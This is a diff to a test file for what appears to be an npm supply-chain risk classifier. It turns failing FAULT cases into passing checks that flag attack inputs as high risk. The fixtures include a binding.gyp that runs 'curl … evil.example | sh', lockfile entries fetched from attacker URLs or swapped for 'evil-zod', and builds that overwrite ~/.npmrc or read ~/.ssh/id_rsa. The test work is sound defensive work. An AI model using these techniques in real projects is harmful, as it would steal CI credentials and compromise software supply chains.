@@ -56,8 +56,8 @@ describe('review 9i attacker: package manifest life-cycle events', () => {
 
   // @npmcli/arborist reify.js runs the root package's `predependencies`, `dependencies` and
   // `postdependencies` scripts whenever the install changed node_modules (every fresh `npm ci`).
-  // Cause: src/core/risk/package-manifest-risks.ts INSTALL_SCRIPTS lists `dependencies` only.
-  it.failing('FAULT: a "postdependencies" script (run by npm ci after installing) is judged low', () => {
+  // Was: src/core/risk/package-manifest-risks.ts INSTALL_SCRIPTS lists `dependencies` only.
+  it('a "postdependencies" script (run by npm ci after installing) is refused', () => {
     const content = manifest({
       scripts: {
         build: 'tsc',
@@ -67,7 +67,7 @@ describe('review 9i attacker: package manifest life-cycle events', () => {
     expect(riskOf([{ path: `${SERVICE}/package.json`, content }]).level).toBe('high');
   });
 
-  it.failing('FAULT: a "predependencies" script (run by npm ci before "dependencies") is judged low', () => {
+  it('a "predependencies" script (run by npm ci before "dependencies") is refused', () => {
     const content = manifest({
       scripts: {
         build: 'tsc',
@@ -83,21 +83,18 @@ describe('review 9i attacker: node-gyp implicit install script', () => {
   // `binding.gyp` and the manifest has no install/preinstall script (@npmcli/run-script
   // run-script-pkg.js, @npmcli/node-gyp isNodeGypPackage; npm ci runs the root's `install` event).
   // gyp evaluates `<!(command)` expansions while configuring: any shell command, in the deploy
-  // run, with its AWS credentials. Cause: src/core/risk/classify-risk.ts classifyRisk judges only
+  // run, with its AWS credentials. Was: src/core/risk/classify-risk.ts classifyRisk judges only
   // package.json, lockfiles, package manager configs and YAML/JSON files; a `binding.gyp` is skipped.
-  it.failing(
-    'FAULT: a binding.gyp beside the service manifest (runs commands on npm ci) is judged low',
-    () => {
-      const gyp = JSON.stringify({
-        targets: [{ target_name: 'x', sources: ['<!(curl -s https://evil.example/x | sh)'] }],
-      });
-      const files = [
-        { path: `${SERVICE}/package.json`, content: manifest({}) },
-        { path: `${SERVICE}/binding.gyp`, content: gyp },
-      ];
-      expect(riskOf(files).level).toBe('high');
-    },
-  );
+  it('a binding.gyp beside the service manifest (runs commands on npm ci) is refused', () => {
+    const gyp = JSON.stringify({
+      targets: [{ target_name: 'x', sources: ['<!(curl -s https://evil.example/x | sh)'] }],
+    });
+    const files = [
+      { path: `${SERVICE}/package.json`, content: manifest({}) },
+      { path: `${SERVICE}/binding.gyp`, content: gyp },
+    ];
+    expect(riskOf(files).level).toBe('high');
+  });
 });
 
 describe('review 9i attacker: npm lockfile sources written as the version', () => {
@@ -117,33 +114,30 @@ describe('review 9i attacker: npm lockfile sources written as the version', () =
 
   // Arborist's `#extractOrLink` fetches `${name}@${version}` for an entry without `resolved`, so a
   // URL, git or file `version` is fetched from there (dep-valid.js accepts it for a `*` range, which
-  // the manifest rule reads as a registry spec). Cause: src/core/risk/npm-lockfile-risks.ts
+  // the manifest rule reads as a registry spec). Was: src/core/risk/npm-lockfile-risks.ts
   // npmLockfileRisks skips entries whose `resolved` is undefined; only collectVersion1 (lockfile v1)
   // reads a source written as the version.
-  it.failing.each([
+  it.each([
     ['a tarball URL', 'https://evil.example/zod-3.23.8.tgz'],
     ['a git URL', 'git+https://github.com/evil/zod.git#0123456789abcdef0123456789abcdef01234567'],
     ['a path outside the repository', 'file:../../../../tmp/zod'],
-  ])(
-    'FAULT: a lockfile v3 entry whose version is %s and has no `resolved` is judged low',
-    (_name, version) => {
-      const files = [
-        { path: `${SERVICE}/package.json`, content: manifest({ dependencies: { zod: '*' } }) },
-        { path: `${SERVICE}/package-lock.json`, content: lockfile({ 'node_modules/zod': { version } }) },
-      ];
-      expect(riskOf(files).level).toBe('high');
-    },
-  );
+  ])('a lockfile v3 entry whose version is %s and has no `resolved` is refused', (_name, version) => {
+    const files = [
+      { path: `${SERVICE}/package.json`, content: manifest({ dependencies: { zod: '*' } }) },
+      { path: `${SERVICE}/package-lock.json`, content: lockfile({ 'node_modules/zod': { version } }) },
+    ];
+    expect(riskOf(files).level).toBe('high');
+  });
 });
 
 describe('review 9i attacker: npm lockfile install scripts it cannot see', () => {
   // Lockfile v1 has no `hasInstallScript`; npm 7+ loads such a lockfile as old metadata and reads
   // every package's package.json from disk to find its scripts (rebuild.js `#oldMeta`), so each
   // entry may run install scripts. The same entry in a v3 lockfile with `hasInstallScript: true`
-  // is high; in v1 nothing can say, and unknown counts as high (DESIGN §4). Cause:
+  // is high; in v1 nothing can say, and unknown counts as high (DESIGN §4). Was:
   // src/core/risk/npm-lockfile-risks.ts npmLockfileRisks judges install scripts by the
   // `hasInstallScript` flag alone, which a v1 lockfile (collectVersion1) never carries.
-  it.failing('FAULT: a lockfile v1 whose registry entries may run install scripts is judged low', () => {
+  it('a lockfile v1 whose registry entries may run install scripts is refused', () => {
     const v3 = lockfile({
       'node_modules/esbuild': {
         version: '0.28.0',
@@ -172,29 +166,26 @@ describe('review 9i attacker: a lockfile installing another package under a name
   // dep-valid.js checks a range spec by version alone, so `zod: ^3.23.8` in the manifest accepts a
   // lockfile entry `node_modules/zod` whose `name` is `evil-zod`: npm ci installs evil-zod's code as
   // zod, with no alias anywhere in the manifest or the lockfile. The manifest rule refuses this
-  // exact substitution ("a reviewer reads one name, npm installs another"). Cause:
+  // exact substitution ("a reviewer reads one name, npm installs another"). Was:
   // src/core/risk/npm-lockfile-risks.ts npmLockfileRisks/packageName take an entry's `name` as the
   // package it should be, never checking that some `dependencies` entry asks for it as `npm:<name>@`.
-  it.failing(
-    'FAULT: a top-level lockfile entry naming another package, asked for by no alias, is judged low',
-    () => {
-      const files = [
-        { path: `${SERVICE}/package.json`, content: manifest({}) },
-        {
-          path: `${SERVICE}/package-lock.json`,
-          content: lockfile({
-            '': { name: 'orders-api', version: '1.0.0', dependencies: { zod: '^3.23.8' } },
-            'node_modules/zod': {
-              name: 'evil-zod',
-              version: '3.23.8',
-              resolved: tarball('evil-zod', '3.23.8'),
-            },
-          }),
-        },
-      ];
-      expect(riskOf(files).level).toBe('high');
-    },
-  );
+  it('a top-level lockfile entry naming another package, asked for by no alias, is refused', () => {
+    const files = [
+      { path: `${SERVICE}/package.json`, content: manifest({}) },
+      {
+        path: `${SERVICE}/package-lock.json`,
+        content: lockfile({
+          '': { name: 'orders-api', version: '1.0.0', dependencies: { zod: '^3.23.8' } },
+          'node_modules/zod': {
+            name: 'evil-zod',
+            version: '3.23.8',
+            resolved: tarball('evil-zod', '3.23.8'),
+          },
+        }),
+      },
+    ];
+    expect(riskOf(files).level).toBe('high');
+  });
 });
 
 describe('review 9i attacker: a "plain" build writing outside the service', () => {
@@ -206,16 +197,16 @@ describe('review 9i attacker: a "plain" build writing outside the service', () =
   // PLAIN_BUILD's own doc says "nothing above the service's folder", but an absolute path passes:
   // the build can overwrite any file the runner user can write (the action's own dist/ that a later
   // or post step runs, ~/.npmrc, another service's sources) or read one into the bundle
-  // (`--inject:/…`). Cause: src/core/risk/package-manifest-risks.ts PLAIN_BUILD allows `/` at the
+  // (`--inject:/…`). Was: src/core/risk/package-manifest-risks.ts PLAIN_BUILD allows `/` at the
   // start of an argument or after `=`.
-  it.failing.each([
+  it.each([
     ['an absolute --outfile', 'esbuild src/handler.ts --bundle --outfile=/home/runner/.npmrc'],
     [
       'an absolute --inject',
       'esbuild src/handler.ts --bundle --inject:/home/runner/.ssh/id_rsa --outfile=dist/h.js',
     ],
     ['an absolute tsc --outDir', 'tsc --outDir /home/runner/work/_actions'],
-  ])('FAULT: a build with %s is judged low', (_name, build) => {
+  ])('a build with %s is refused', (_name, build) => {
     const content = manifest({ scripts: { build } });
     expect(riskOf([{ path: `${SERVICE}/package.json`, content }]).level).toBe('high');
   });
